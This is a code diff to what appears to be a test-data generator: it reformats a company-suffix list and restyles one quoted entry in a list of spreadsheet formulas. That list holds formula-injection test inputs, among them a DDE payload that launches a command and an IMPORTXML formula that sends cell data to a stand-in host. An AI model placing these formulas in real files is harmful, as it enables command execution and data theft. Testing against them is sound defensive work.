@@ -129,7 +129,19 @@ COMPANY_WORDS_B = [
     "Dynamics", "Outfitters", "Brewing", "Pharma",
 ]  # fmt: skip
 
-COMPANY_SUFFIXES = ["", "", "", " Inc.", ", Inc.", " LLC", " Ltd", ", Ltd.", " GmbH", " S.A.", " Group"]
+COMPANY_SUFFIXES = [
+    "",
+    "",
+    "",
+    " Inc.",
+    ", Inc.",
+    " LLC",
+    " Ltd",
+    ", Ltd.",
+    " GmbH",
+    " S.A.",
+    " Group",
+]
 
 SPECIAL_COMPANIES = [
     ("Smith, Jones & Co", "smithjones.com"),
@@ -225,7 +237,7 @@ FORMULAS = [
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1:A2)",
-    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
     "+SUM(1,2)",
     "-@A1",
     "@foo",
